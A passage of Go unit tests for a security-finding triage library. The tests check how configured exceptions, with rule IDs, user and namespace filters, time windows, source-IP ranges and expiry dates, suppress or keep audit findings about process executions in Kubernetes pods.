		{"timezone only: no restriction", `timezone = "Europe/Berlin"`, "", true},
		{"empty window: no restriction", ``, "", true},
		{"parsable timestamp", `hours = "00:00-23:59"`, "2026-11-20T10:15:00Z", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\n[exception.window]\n"+tt.window+"\n")
			f := exAuditFinding()
			f.Timestamp = tt.timestamp
			if got := ex.Covers(f, exDoc(f)); got != tt.want {
				t.Errorf("Covers = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestApply(t *testing.T) {
	exs := exParse(t, `
[[exception]]
name   = "old"
when   = 'user.name:"alice@example.com"'
reason = "expired long ago"
expires = 2020-01-01

[[exception]]
name   = "shop-ls"
rule   = "14de811c-d60f-11ec-9fd7-f661ea17fbce"
when   = 'orchestrator.namespace:"shop" and process.args:"ls"'
reason = "listing in shop"

[[exception]]
name   = "alice"
when   = 'user.name:"alice@example.com"'
reason = "alice is on call"

[[exception]]
name   = "everything at night"
reason = "night shift"
[exception.window]
hours = "00:00-06:00"
`)
	now := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)
	mk := func(id string, change func(*triage.Finding)) *triage.Finding {
		f := exAuditFinding()
		f.ID = id
		change(f)
		return f
	}
	findings := []*triage.Finding{
		mk("f1-shop-ls", func(f *triage.Finding) {}), // shop-ls and alice both cover: first wins
		mk("f2-bob-bash", func(f *triage.Finding) { f.User.Name = "bob"; f.Process.Args = []string{"bash"} }),
		mk("f3-alice-bash", func(f *triage.Finding) { f.Process.Args = []string{"bash"} }),
		mk("f4-bob-ls-other-rule", func(f *triage.Finding) { f.User.Name = "bob"; f.Rule.ID = exRuleWebSocket }),
		mk("f5-bob-night", func(f *triage.Finding) {
			f.User.Name = "bob"
			f.Process.Args = []string{"vi"}
			f.Timestamp = "2026-11-20T03:00:00Z"
		}),
		mk("f6-bob-no-time", func(f *triage.Finding) { f.User.Name = "bob"; f.Process.Args = []string{"vi"}; f.Timestamp = "" }),
		mk("f7-bob-vi", func(f *triage.Finding) { f.User.Name = "bob"; f.Process.Args = []string{"vi"} }),
	}
	before, _ := json.Marshal(findings)

	docs := map[string]int{}
	docOf := func(f *triage.Finding) rules.Document {
		docs[f.ID]++
		return exDoc(f)
	}
	kept, suppressed, expired := triage.Apply(findings, exs, now, docOf)

	var keptIDs []string
	for _, f := range kept {
		keptIDs = append(keptIDs, f.ID)
	}
	if want := []string{"f2-bob-bash", "f4-bob-ls-other-rule", "f6-bob-no-time", "f7-bob-vi"}; !reflect.DeepEqual(keptIDs, want) {
		t.Errorf("kept %q, want %q", keptIDs, want)
	}
	var got []string
	for _, s := range suppressed {
		got = append(got, s.Finding.ID+" by "+s.By.Name)
	}
	want := []string{"f1-shop-ls by shop-ls", "f3-alice-bash by alice", "f5-bob-night by everything at night"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("suppressed %q, want %q", got, want)
	}
	if len(expired) != 1 || expired[0].Name != "old" {
		t.Errorf("expired = %v", expired)
	}
	for id, n := range docs {
		if n > 1 {
			t.Errorf("docOf called %d times for %s", n, id)
		}
	}
	if after, _ := json.Marshal(findings); string(after) != string(before) {
		t.Error("Apply changed a finding")
	}
	if len(kept)+len(suppressed) != len(findings) {
		t.Errorf("findings lost: %d kept + %d suppressed != %d", len(kept), len(suppressed), len(findings))
	}
}

func TestApplyWithoutWhenNeedsNoDocument(t *testing.T) {
	exs := exParse(t, "[[exception]]\nrule = \""+exRuleProcess+"\"\nreason = \"r\"\n")
	f := exAuditFinding()
	p := exAuditFinding()
	p.Rule.ID = exRuleProcess
	calls := 0
	kept, suppressed, _ := triage.Apply([]*triage.Finding{f, p}, exs, time.Now(), func(*triage.Finding) rules.Document {
		calls++
		return nil
	})
	if calls != 0 {
		t.Errorf("docOf called %d times; no exception has a when", calls)
	}
	if len(kept) != 1 || kept[0] != f || len(suppressed) != 1 || suppressed[0].Finding != p {
		t.Errorf("kept %v, suppressed %v", kept, suppressed)
	}
	kept, suppressed, expired := triage.Apply(nil, nil, time.Now(), nil)
	if len(kept) != 0 || suppressed != nil || expired != nil {
		t.Errorf("nothing in, nothing out: %v %v %v", kept, suppressed, expired)
	}
}

func TestUnknownRules(t *testing.T) {
	exs := exParse(t, `
[[exception]]
reason = "every rule"
[[exception]]
name   = "typo"
rule   = ["`+exRuleAudit+`", "14de811c-d60f-11ec-9fd7-f661ea17fbcX"]
reason = "r"
[[exception]]
rule   = "from-another-rules-folder"
reason = "r"
`)
	known := func(id string) bool { return id == exRuleAudit || id == exRuleProcess || id == exRuleWebSocket }
	got := triage.UnknownRules(exs, known)
	want := []string{
		`exceptions.toml: exception 2 ("typo"): rule 14de811c-d60f-11ec-9fd7-f661ea17fbcX is not loaded`,
		`exceptions.toml: exception 3: rule from-another-rules-folder is not loaded`,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("UnknownRules =\n%q\nwant\n%q", got, want)
	}
}

func TestExamplesFile(t *testing.T) {
	exs, err := triage.LoadExceptions("../testdata/exceptions/examples.toml")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, ex := range exs {
		names = append(names, ex.Name)
	}
	if want := []string{"ci-smoke-test", "sre-saturday-maintenance", "pg-backup-tar", "bastion-health-checks"}; !reflect.DeepEqual(names, want) {
		t.Fatalf("names %q, want %q", names, want)
	}
	builtin, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	known := map[string]bool{}
	for _, r := range builtin {
		known[r.ID] = true
	}
	if unknown := triage.UnknownRules(exs, func(id string) bool { return known[id] }); len(unknown) > 0 {
		t.Errorf("examples name rules that are not built in: %q", unknown)
	}

	byName := map[string]*triage.Exception{}
	for _, ex := range exs {
		byName[ex.Name] = ex
	}
	now := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	tests := []struct {
		name      string
		exception string
		change    func(f *triage.Finding)
		want      bool
	}{
		{"CI lists the web root", "ci-smoke-test", func(f *triage.Finding) {
			f.User = &triage.User{Name: "system:serviceaccount:ci:deployer"}
			f.Process.Args = []string{"ls", "-la", "/usr/share/nginx/html"}
		}, true},
		{"CI opens a shell", "ci-smoke-test", func(f *triage.Finding) {
			f.User = &triage.User{Name: "system:serviceaccount:ci:deployer"}
			f.Process.Args = []string{"/bin/sh"}
		}, false},
		{"CI lists with a terminal", "ci-smoke-test", func(f *triage.Finding) {
			f.User = &triage.User{Name: "system:serviceaccount:ci:deployer"}
			f.Process.Args = []string{"ls", "/usr/share/nginx/html"}
			f.Exec.TTY = true
		}, false},
		{"SRE on Saturday night, Berlin", "sre-saturday-maintenance", func(f *triage.Finding) {
			f.User.Groups = []string{"oidc:sre-oncall"}
			f.Orch.Namespace = "payments"
			f.Timestamp = "2026-11-21T21:30:00Z" // 22:30 in Berlin
		}, true},
		{"SRE early Sunday, Berlin", "sre-saturday-maintenance", func(f *triage.Finding) {
			f.User.Groups = []string{"oidc:sre-oncall"}
			f.Orch.Namespace = "checkout"
			f.Timestamp = "2026-11-22T02:59:00Z" // 03:59 in Berlin
		}, true},
		{"SRE on Friday night", "sre-saturday-maintenance", func(f *triage.Finding) {
			f.User.Groups = []string{"oidc:sre-oncall"}
			f.Orch.Namespace = "payments"
			f.Timestamp = "2026-11-20T21:30:00Z"
		}, false},
		{"backup tar at night", "pg-backup-tar", func(f *triage.Finding) {
			f.User = &triage.User{Name: "system:serviceaccount:analytics:pg-backup"}
			f.Orch = &triage.Orchestrator{Namespace: "analytics", Resource: &triage.Resource{Type: "pod", Name: "pg-main-0"}}
			f.Container.Name = "postgres"
			f.Process.Args = []string{"tar", "-czf", "-", "-C", "/var/lib/postgresql/data", "."}
			f.Timestamp = "2026-11-20T01:12:00Z"
		}, true},
		{"backup account runs psql", "pg-backup-tar", func(f *triage.Finding) {
			f.User = &triage.User{Name: "system:serviceaccount:analytics:pg-backup"}
			f.Orch = &triage.Orchestrator{Namespace: "analytics", Resource: &triage.Resource{Type: "pod", Name: "pg-main-0"}}
			f.Container.Name = "postgres"
			f.Process.Args = []string{"psql", "-c", "select 1"}
			f.Timestamp = "2026-11-20T01:12:00Z"
		}, false},
		{"backup tar at noon", "pg-backup-tar", func(f *triage.Finding) {
			f.User = &triage.User{Name: "system:serviceaccount:analytics:pg-backup"}
			f.Orch = &triage.Orchestrator{Namespace: "analytics", Resource: &triage.Resource{Type: "pod", Name: "pg-main-0"}}
			f.Container.Name = "postgres"
			f.Process.Args = []string{"tar", "-czf", "-", "-C", "/var/lib/postgresql/data", "."}
			f.Timestamp = "2026-11-20T12:00:00Z"
		}, false},
		{"bastion probe", "bastion-health-checks", func(f *triage.Finding) {
			f.User = &triage.User{Name: "healthcheck@ops.example.com"}
			f.Source.IP = []string{"10.40.0.12"}
			f.Process.Args = []string{"pg_isready", "-h", "localhost"}
		}, true},
		{"bastion probe from the top of the block, spelled as IPv6", "bastion-health-checks", func(f *triage.Finding) {
			f.User = &triage.User{Name: "healthcheck@ops.example.com"}
			f.Source.IP = []string{"::ffff:10.40.0.254"}
			f.Process.Args = []string{"pg_isready"}
		}, true},
		{"probe account from the next block", "bastion-health-checks", func(f *triage.Finding) {
			f.User = &triage.User{Name: "healthcheck@ops.example.com"}
			f.Source.IP = []string{"10.40.1.1"}
			f.Process.Args = []string{"pg_isready"}
		}, false},
		{"probe account from elsewhere", "bastion-health-checks", func(f *triage.Finding) {
			f.User = &triage.User{Name: "healthcheck@ops.example.com"}
			f.Source.IP = []string{"198.51.100.7"}
			f.Process.Args = []string{"pg_isready"}
		}, false},
		{"spoofed bastion address, other user", "bastion-health-checks", func(f *triage.Finding) {
			f.User = &triage.User{Name: "mallory@example.com"}
			f.Source.IP = []string{"10.40.0.12", "198.51.100.7"}
			f.Process.Args = []string{"pg_isready"}
		}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := byName[tt.exception]
			if ex.Expired(now) {
				t.Fatalf("%s expired at %v", ex, now)
			}
			f := exAuditFinding()
			tt.change(f)
			if got := ex.Covers(f, exDoc(f)); got != tt.want {
				t.Errorf("%s covers = %v, want %v", ex, got, tt.want)
			}
		})
	}
}

// Booleans and numbers compared as Elasticsearch takes them load.
func TestExceptionTypedValuesAccepted(t *testing.T) {
	for _, when := range []string{`exec.tty:true`, `not exec.tty:"false"`, `exec.tty:(true or false)`, `kubernetes.response_code:101`,
		`kubernetes.response_code >= 400`, `kubernetes.response_code:"403"`, `process.pid:*`, `session.duration_ms < 1000`, `process.exit_code:0`} {
		exOne(t, "[[exception]]\nreason = \"r\"\nwhen = '"+when+"'\n")
	}
}
